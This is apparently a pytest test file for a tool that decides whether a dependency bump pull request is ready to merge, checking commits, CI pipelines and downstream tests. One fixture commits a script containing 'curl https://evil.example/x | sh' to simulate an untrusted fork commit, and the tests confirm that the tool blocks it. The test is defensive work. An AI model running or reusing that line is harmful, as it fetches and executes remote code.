"""Whether a bump is ready to merge, and its end: outcome, plan and links."""

from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from bumping import BRANCH, CONTRIBUTOR, World, allowed, bump_to, git
from clones import commit

from runbook_lib.bump import ready
from runbook_lib.bump.ready import ReadyFacts, RecordedStep, Requirement, State
from runbook_lib.bump.run import carry_out
from runbook_lib.failures import quarantines
from runbook_lib.failures.quarantines import LeftOut
from runbook_lib.model import Evidence, Next
from runbook_lib.pins.bump import Bump
from runbook_lib.pins.repositories import MEGATRON_LM
from runbook_lib.record.recorder import Recorder
from runbook_lib.world.bump_branch import BumpBranch
from runbook_lib.world.github.models import WorkflowJob

MBRIDGE = "Run MBridge tests"


# -- what was looked at ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("allow", "blocks"), [("", True), ("second-ci-unseen", False)], ids=["unknown", "a person does without it"]
)
@pytest.mark.parametrize("address", ["", "http://127.0.0.1:9"], ids=["no address", "unreachable"])
def test_a_pipeline_that_nobody_looked_for_is_unknown(
    world: World, monkeypatch: pytest.MonkeyPatch, allow: str, blocks: bool, address: str
) -> None:
    monkeypatch.setenv("GITLAB_URL", address)
    monkeypatch.setenv("GITLAB_TOKEN", "x")
    world.open_pr()
    (found,) = [each for each in check(world, allow=allow).requirements if each.kind == "second ci"]
    assert (found.state, found.blocks) == ("unknown", blocks)
    assert ("what: second-ci-unseen" in found.next.because) is blocks


def check(world: World, **told: Any) -> ReadyFacts:
    """What is ready, with these decisions."""
    return ready.check(BumpBranch.find(world.checkout, bump_to(**told)), world.github(), world.records)


def of_a_fork(world: World, script: str) -> str:
    """A fork's pull request with the bump and a script, checked out here; its head commit."""
    world.open_pr(mode="local")
    path = world.checkout.path
    git(path, "switch", "-q", BRANCH)
    if script:
        commit(path, {script: "curl https://evil.example/x | sh\n"})
    git(path, "push", "-q", str(world.fork), f"{BRANCH}:{BRANCH}")
    bump = bump_to()
    world.github("contributor-token").open_pull(bump.title, f"{CONTRIBUTOR}:{BRANCH}", "main", "The bump.")
    return git(path, "rev-parse", "HEAD")


def test_the_commits_of_a_forks_pull_request_are_judged(world: World, colleague: None) -> None:
    evil = of_a_fork(world, "evil.sh")
    (commits,) = [each for each in check(world).requirements if each.blocks and each.kind == "commits"]
    assert evil[:10] in commits.evidence
    assert evil in commits.next.because
    assert "git push" not in commits.next.because  # it is not our branch
    world.open_pr(mode="publish")
    assert evil[:10] in world.said("waiting")[-1]["sentence"]
    assert "label" not in world.effects()
    assert "evil.sh" in world.kept("change.diff")
    world.open_pr(allow=f"foreign-commit:{evil}")
    assert "label" in world.effects()
    confirmed = check(world, allow=f"foreign-commit:{evil}").requirements
    assert not [each for each in confirmed if each.blocks and each.kind == "commits"]


def test_the_bumps_own_commits_are_recognized_in_a_fork(world: World, colleague: None) -> None:
    of_a_fork(world, "")
    state = ready.check(BumpBranch.find(world.checkout, bump_to()), world.github(), None)
    assert [each.state for each in state.requirements if each.kind == "commits"] == ["met"]


def test_commits_that_cannot_be_fetched_are_not_met(world: World, colleague: None) -> None:
    of_a_fork(world, "evil.sh")
    path = world.checkout.path
    git(path, "switch", "-q", "main")
    git(path, "branch", "-qD", BRANCH)
    git(path, "reflog", "expire", "--expire=now", "--all")
    git(path, "gc", "-q", "--prune=now")
    git(world.remote, "update-ref", "-d", "refs/pull/10/head")
    state = check(world)
    assert [(each.kind, each.state) for each in state.requirements] == [("commits", "unknown")]
    world.open_pr()
    assert "cannot be fetched" in world.outcome()


def test_a_strangers_pull_request_is_not_the_bumps(world: World) -> None:
    of_a_fork(world, "evil.sh")
    state = check(world)
    assert (state.requirements, "no pull request" in state.problem) == ((), True)
    world.open_pr(mode="preview")
    assert any("will not be used" in entry for entry in world.said("warnings"))


@pytest.mark.parametrize(
    ("labels", "job", "expected"),
    [
        (set(), ("completed", "failure"), []),
        ({MBRIDGE}, ("completed", "success"), [("met", False)]),
        ({MBRIDGE}, ("completed", "failure"), [("missing", False)]),
        ({MBRIDGE}, ("in_progress", ""), [("missing", True)]),
        ({MBRIDGE}, ("completed", "skipped"), [("unknown", False)]),
        ({MBRIDGE, "Run NeMoRL tests"}, ("completed", "success"), [("met", False), ("unknown", False)]),
    ],
)
def test_the_tests_of_other_projects_count_once_they_are_asked_for(
    labels: set[str], job: tuple[str, str], expected: list[tuple[str, bool]]
) -> None:
    found = WorkflowJob(1, "https://x/1", "cicd-mbridge-testing", *job, None, None)
    status: Any = SimpleNamespace(jobs=(found,), is_over=True)
    state = SimpleNamespace(bump=SimpleNamespace(repository=MEGATRON_LM))
    head: Any = SimpleNamespace(state=state, pull=SimpleNamespace(labels=labels, head_sha="a" * 40), ci=status)
    told = list(ready._check_downstream(head))
    assert [(each.state, each.running) for each in told] == expected


# -- what its end says ---------------------------------------------------------------------------------------------

OLD, NEW = "https://gitlab/p/-/pipelines/1", "https://gitlab/p/-/pipelines/2"


def step(name: str, state: str, sentence: str, **fields: Any) -> RecordedStep:
    empty: dict[str, Any] = {"planned": [], "decisions": [], "warnings": [], "links": {}}
    return {"name": name, "state": state, "outcome": {"sentence": sentence, "next": {}}, **empty, **fields}


def finish(folder: Path, found: ReadyFacts, *steps: RecordedStep, apply: bool = True) -> dict[str, Any]:
    """Return the record's fields after the end of a bump with these steps."""
    exceptions = allowed(" ".join(decision for each in found.requirements for decision in each.decisions))
    bump = Bump.parse(tag="26.04-py3", mode="local" if apply else "preview", decisions=exceptions)
    record = Recorder("bump", bump, folder)
    for each in steps:
        record.begin_step(each["name"])
        record.keep(Evidence(links=each["links"]))
    record.begin_step(ready.NAME)
    world: Any = SimpleNamespace(round=None)
    carry_out(record, ready.plan(replace(found, steps=steps), bump), world, lambda _: None)
    return record.run


@pytest.mark.parametrize(("url", "expected"), [(NEW, NEW), ("", None)], ids=["a new pipeline", "none yet"])
def test_the_linked_pipeline_is_that_of_the_checked_commit(tmp_path: Path, url: str, expected: str | None) -> None:
    links = {"pull request": "https://p", "GitLab pipeline": OLD}
    found = ReadyFacts((Requirement("second ci", "met" if url else "missing", "Pipeline.", url=url),))
    fields = finish(tmp_path, found, step("05-golden-values", "done", "Done.", links=links))
    assert (fields["links"]["pull request"], fields["links"].get("GitLab pipeline")) == ("https://p", expected)


def test_the_preview_of_a_waiting_bump_shows_its_plan(tmp_path: Path) -> None:
    danger = "accept gpt/a/x.json, a divergence (diverges: right)"
    steps = [
        step("04-run-ci", "waiting", "waiting for a person: CI failed"),
        step("05-golden-values", "previewed", "Preview.", planned=[{"sentence": danger, "publish": False}]),
    ]
    outcome = finish(tmp_path, ReadyFacts(problem="A preview does not look."), *steps, apply=False)["outcome"]
    assert danger in outcome["sentence"]
    assert "CI failed" in outcome["sentence"]


@pytest.mark.parametrize(
    ("state", "decisions", "expected"),
    [("met", (), True), ("missing", (), False), ("unknown", (), False), ("unknown", ("second-ci-unseen",), True)],
)
def test_a_bump_is_ready_if_no_requirement_is_missing_or_unknown(
    tmp_path: Path, state: State, decisions: tuple[str, ...], expected: bool
) -> None:
    found = ReadyFacts((Requirement("second ci", state, "Seen.", decisions=decisions),))
    fields = finish(tmp_path, found, step("07-sync-check", "done", "Done."))
    assert fields["outcome"]["sentence"].startswith("Ready to merge") is expected
    assert fields["inputs"]["requirements"][0]["state"] == state


@pytest.mark.parametrize(
    ("question", "state"), [("", "met"), ("reenable", "met"), ("broken", "met"), ("accept", "missing")]
)
def test_an_open_question_about_values_is_no_branch_without_open_decisions(
    tmp_path: Path, question: str, state: str
) -> None:
    asked = [{"kind": question, "subject": "gpt/a/x.json"}] if question else []
    found = ReadyFacts((Requirement("values", "met", "None is held back."),))
    fields = finish(tmp_path, found, step("05-golden-values", "waiting", "Waiting.", decisions=asked))
    assert fields["inputs"]["requirements"][0]["state"] == state
    assert ("gpt/a/x.json" in fields["outcome"]["sentence"]) == (state == "missing")


@pytest.mark.parametrize(
    ("runner", "image_type", "state"),
    [
        ("x-gpu-x8-h100", "dev", "missing"),
        ("x-gpu-x4-gb200", "dev", "met"),
        ("x-gpu-x4-gb200", "lts", "missing"),
        ("", "dev", "missing"),
    ],
)
def test_a_red_job_is_excused_only_where_its_test_may_fail(
    monkeypatch: pytest.MonkeyPatch, runner: str, image_type: str, state: State
) -> None:
    soft = LeftOut("gpt/a", "dgx_a100, dgx_gb200", soft=("dev",))
    monkeypatch.setattr(quarantines, "quarantined_since_fork", lambda *_: [soft])
    job = WorkflowJob(1, "", "gpt/a - latest", "completed", "failure", None, None, runners=(runner,))
    ci = SimpleNamespace(state="failed", jobs=(job,), text="It failed.", run=None, is_over=True, next=Next())
    pull = SimpleNamespace(head_sha="a" * 40, base_ref="main")
    branch = SimpleNamespace(bump=SimpleNamespace(image_type=image_type))
    head: Any = SimpleNamespace(ci=ci, pull=pull, state=SimpleNamespace(comments=(), behind=0), branch=branch)
    assert [each.state for each in ready._check_ci(head) if each.kind == "ci"] == [state]
